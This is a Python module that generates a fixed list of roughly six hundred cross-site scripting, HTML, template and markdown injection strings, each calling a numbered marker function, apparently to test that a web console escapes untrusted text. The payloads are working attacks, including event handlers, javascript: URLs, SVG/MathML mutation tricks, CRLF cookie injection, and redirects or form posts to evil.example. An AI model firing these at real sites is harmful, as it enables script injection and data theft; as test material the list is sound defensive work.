"""Texts that try to become markup, a script or an address on a page, made from classes.

Each names a call of its own, `bad17`, so that a page shows which of them it holds.
"""

import base64
import html
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

_TAGS = (
    "script", "img src=x", "svg", "iframe", "object", "embed", "link rel=stylesheet href=//e",
    "meta http-equiv=refresh", "base href=//e", "form action=//e", "input name=secret", "button",
    "details open", "video", "audio", "source", "marquee", "math", "template", "noscript", "style",
    "textarea", "title", "frameset", "frame", "isindex", "portal", "dialog open", "slot", "xmp",
    "plaintext", "select", "option", "table", "body", "html", "head", "area", "map", "applet",
    "bgsound", "layer", "keygen", "image", "custom-element", "a href=javascript:x",
)  # fmt: skip
_EVENTS = (
    "error", "load", "click", "focus", "blur", "mouseover", "pointerenter", "toggle",
    "beforetoggle", "animationstart", "animationend", "transitionend", "wheel", "scroll",
    "scrollend", "paste", "copy", "cut", "drag", "drop", "keydown", "input", "beforeinput",
    "change", "invalid", "submit", "reset", "select", "contextmenu", "auxclick", "hashchange",
    "message", "pageshow", "popstate", "resize", "unhandledrejection", "beforeprint",
    "securitypolicyviolation", "slotchange", "ended",
)  # fmt: skip
_QUOTES = ('"', "'", "`", "", '">', "'>", '"/', "\\\"")  # fmt: skip
_GAPS = (" ", "\t", "\n", "\f", "/", "\r\n")
_SCHEMES = (
    "javascript:BAD()", "JaVaScRiPt:BAD()", " javascript:BAD()", "java\tscript:BAD()",
    "java\nscript:BAD()", "\x01javascript:BAD()", "javascript&colon;BAD()", "&#106;avascript:BAD()",
    "javascript://%0aBAD()", "vbscript:BAD", "data:text/html,<script>BAD()</script>",
    "data:image/svg+xml,<svg onload=BAD()>", "blob:BAD", "filesystem:BAD", "file:///etc/BAD",
    "view-source:BAD", "//evil.example/BAD", "\\\\evil.example\\BAD", "https:evil.example/BAD",
)  # fmt: skip
_CARRIERS = (
    '<a href="URL">x</a>', "<a href=URL>x</a>", "[x](URL)", "<URL|x>", "<URL>", "URL",
    "[x]: URL\n\n[x]", "![x](URL)", '<form action="URL"><button>', '<iframe src="URL">',
)  # fmt: skip
_DRAWINGS = (
    "<svg onload=BAD()>", "<svg/onload=BAD()//", "<svg><script>BAD()</script></svg>",
    "<svg><animate onbegin=BAD() attributeName=x dur=1s>", "<svg><set onbegin=BAD()>",
    "<svg><a xlink:href=javascript:BAD()><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=BAD()>#x'/></svg>",
    "<svg><foreignObject><iframe onload=BAD()></foreignObject></svg>",
    "<svg><style><img src=x onerror=BAD()></style></svg>", "<svg><title><b onclick=BAD()>",
    "<svg><image href=x onerror=BAD()>", "<svg></p><style><a id='</style><img onerror=BAD()>'>",
    "<math><mtext></form><form><mglyph><style></math><img onerror=BAD()>",
    "<math href=javascript:BAD()>x</math>", "<math><annotation-xml encoding=text/html>BAD",
    "<math><mi xlink:href='data:x,BAD'>", "<svg><desc><noscript><img onerror=BAD()>",
)  # fmt: skip
_TEMPLATES = (
    "{{ BAD }}", "{% for x in BAD %}", "{# BAD #}", "${BAD()}", "#{BAD()}", "<%= BAD() %>",
    "<? BAD ?>", "<?php BAD(); ?>", "[[BAD]]", "@{BAD}", "*{BAD}", "~{BAD}", "{{{ BAD }}}",
    "{{constructor.constructor('BAD()')()}}", "{{ self.__init__.__globals__.BAD }}",
    "{{ ''|safe ~ '<script>BAD()</script>'|safe }}", "{% endblock %}<b onclick=BAD()>",
    "{% raw %}<script>BAD()</script>{% endraw %}", "<x v-html='BAD'>", "<x ng-init=BAD()>",
    "<x x-data x-init=BAD()>", "<x hx-get=//e/BAD hx-trigger=load>", "<x data-live=//e/BAD>",
    "%7B%7BBAD%7D%7D", "%(BAD)s", "{0.BAD}", "$(BAD)", "`BAD`",
)  # fmt: skip
_PLAIN = ("<script>BAD()</script>", '"><img src=x onerror=BAD()>', "' onclick=BAD() '")
_RAW_TEXT = (
    "title", "textarea", "style", "script", "noscript", "xmp", "pre", "template", "iframe",
    "noembed", "noframes", "plaintext", "select", "option", "table", "svg", "math", "button",
    "form", "label", "dl", "main", "body", "html",
)  # fmt: skip
_COMMENTS = (
    "<!-- BAD", "--><script>BAD()</script>", "<!--><img onerror=BAD()>-->", "<!--- BAD --!>",
    "<![CDATA[<img onerror=BAD()>]]>", "]]><script>BAD()</script>", "<?xml BAD?>", "<!BAD>",
    "</BAD>", "<!--[if IE]><script>BAD()</script><![endif]-->", "<!DOCTYPE BAD>",
    "<!ENTITY x SYSTEM 'BAD'>", "<//BAD>", "<%BAD%>", "< BAD>", "<\x00BAD>", "<BAD", "&BAD;",
    "&lt;BAD&gt;", "<!--<script>BAD",
)  # fmt: skip
_POLICY = (
    "<base href=//evil.example/BAD>", "<meta http-equiv=Content-Security-Policy content='BAD'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/BAD'>",
    "<meta http-equiv=set-cookie content=bellhop-console=BAD>", "<link rel=preload href=//e/BAD>",
    "<link rel=prefetch href=//e/BAD>", "<link rel=dns-prefetch href=//BAD.example>",
    "<link rel=manifest href=//e/BAD>", "<link rel=modulepreload href=/console/own/file?BAD>",
    "<script src=/console/own/file?path=BAD></script>", "<script nonce=BAD>BAD()</script>",
    "<script type=module>import '/console/BAD'</script>", "<script type=importmap>BAD</script>",
    "<style>@import '//e/BAD'</style>", "<p style=background:url(//e/BAD)>",
    "<img src='//evil.example/BAD?", '<a href="//evil.example/BAD" target="', "<textarea>BAD",
    "<iframe srcdoc='<script>BAD()</script>'>", "<object data=/console/BAD>",
    "<embed src=/console/static/console.js?BAD>", "<a ping=//e/BAD href=/console>x</a>",
    "<button formaction=//e/BAD>x</button>", "<input form=x formaction=//e/BAD type=submit>",
    "<form id=menu><input name=secret value=BAD>", "<a id=side name=BAD>", "<x id=main data-x=BAD>",
    "<div data-live=/console/own/file?path=BAD>", "<button data-sure=BAD>x</button>",
    "<input autofocus value=BAD>", "<dialog open>BAD<form method=dialog>", "<video poster=//e/BAD>",
)  # fmt: skip
_IN_SCRIPTS = (
    "</script><script>BAD()</script>", '"};BAD();//', "'+BAD()+'", "\\x3cscript\\x3eBAD()",
    "\\u003cscript\\u003eBAD()", '\\";BAD();//', "\u2028BAD()", "*/BAD()/*", "`${BAD()}`",
    '{"__proto__": {"html": "BAD"}}', "\n\ndata: {\"html\": \"<b>BAD\"}\n\n",
    "\r\nevent: over\r\ndata: BAD\r\n\r\n", "\r\nSet-Cookie: bellhop-console=BAD",
    "\r\n\r\n<script>BAD()</script>", "1;BAD()", "]}BAD", "\\\nBAD", "\\u2028BAD",
)  # fmt: skip
_MARKDOWN = (
    '[x](http://h/ "onmouseover=BAD()")', "[x](<http://h/BAD>)",
    "```\"><script>BAD()</script>\nx\n```", "```BAD onload=x\n```", "`<b>BAD`",
    "<javascript:BAD()>", "<http://h/\"onclick=BAD()>",
    "http://h/\"onclick=BAD()", "http://h/<b>BAD", "<@1|<b>BAD>", "<#C1|\"BAD>", "<!here|<b>BAD>",
    "<t:1:BAD>", "-# <b>BAD", "# <b>BAD", "> <b>BAD", "| <b>BAD |\n|---|\n| x |", "* <b>BAD\n* x",
    "\\<b>BAD", "**<b>BAD**", "~~<b>BAD~~", "[BAD](data:text/html,x)",
    "[x][BAD]\n\n[BAD]: javascript:x", "<http://h/|<b>BAD>", "<mailto:x|\" onclick=BAD()>",
    "<div>\nBAD\n</div>", "&#60;b&#62;BAD",
)  # fmt: skip
_CHARACTERS = (
    *range(1, 0x20), 0x7F, 0x85, 0x9B, 0xA0, 0xAD, 0x61C, 0x180E, 0x200B, 0x200D, 0x200E, 0x200F,
    0x2028, 0x2029, *range(0x202A, 0x202F), 0x2060, *range(0x2066, 0x206A), 0xFEFF, 0xFFF9,
    0xFFFE, 0xD83D, 0xDC00, 0xE0041, 0x10FFFF,
)  # fmt: skip


def markup_attacks() -> list[str]:
    """Some six hundred texts, always the same ones."""
    return [made.replace("BAD", f"bad{number}") for number, made in enumerate(_forms())]


def _forms() -> Iterator[str]:
    """`BAD` stands for the name of the call."""
    yield from (f"<{tag} title=BAD>x" for tag in _TAGS)
    yield from (f"<img src=x on{event}=BAD()>" for event in _EVENTS)
    for quoted, gap in product(_QUOTES, _GAPS):
        yield f"{quoted}{gap}autofocus onfocus=BAD(){gap}x={quoted}"
    for scheme, carrier in product(_SCHEMES, _CARRIERS):
        yield carrier.replace("URL", scheme)
    yield from (*_DRAWINGS, *_TEMPLATES, *_COMMENTS, *_POLICY, *_IN_SCRIPTS, *_MARKDOWN)
    yield from (f"</{tag}><script>BAD()</script>" for tag in _RAW_TEXT)
    for plain in _PLAIN:
        yield from _encoded(plain)
    for code in _CHARACTERS:
        yield f"<{chr(code)}img src=x onerror={chr(code)}BAD()>"
        yield f"BAD{chr(code)}gpj.exe"


def _encoded(text: str) -> Iterator[str]:
    parts = text.split("BAD")
    encoders: tuple[Callable[[str], str], ...] = (
        html.escape,
        lambda part: html.escape(html.escape(part)),
        lambda part: "".join(f"&#{ord(char)};" for char in part),
        lambda part: "".join(f"&#x{ord(char):X}" for char in part),
        lambda part: "".join(f"&#{ord(char):07}" for char in part),
        quote,
        lambda part: quote(quote(part)),
        lambda part: "".join(f"\\u{ord(char):04x}" for char in part),
        lambda part: "".join(f"\\{ord(char):x} " for char in part),
        lambda part: part.replace("<", "+ADw-").replace(">", "+AD4-"),
        lambda part: part.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe"),
        _wide,
        lambda part: part.replace("<", "\u2039").replace('"', "\u2033"),
        lambda part: base64.b64encode(part.encode()).decode(),
        lambda part: part.replace("s", "\u017f").replace("i", "\u0131"),
        str.upper,
    )  # fmt: skip
    for encode in encoders:
        yield "BAD".join(map(encode, parts))


def _wide(text: str) -> str:
    """The same in characters of full width, which some programs read as the plain ones."""
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text)
